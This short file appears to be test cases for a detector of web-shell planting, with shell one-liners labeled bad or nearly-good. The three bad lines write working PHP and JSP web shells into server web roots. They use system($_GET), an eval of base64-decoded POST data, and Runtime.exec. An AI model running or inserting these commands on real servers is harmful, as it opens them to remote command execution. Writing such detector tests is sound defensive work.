# bad: in one line
echo '<?php system($_GET["c"]); ?>' > /var/www/html/u.php
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
# bad: evaluated
printf '<?php eval(base64_decode($_POST["x"]));' | sudo tee /srv/www/i.php
# bad: of another kind
echo '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' > /opt/tomcat/webapps/ROOT/u.jsp
# good: nearly: shows what came in
echo '<?php echo htmlspecialchars($_GET["q"]); ?>' > public/search.php
# good: nearly: runs something fixed
echo '<?php system("uptime"); ?>' > public/up.php
# good: nearly: looks for such a page
grep -rn 'system($_GET' /var/www
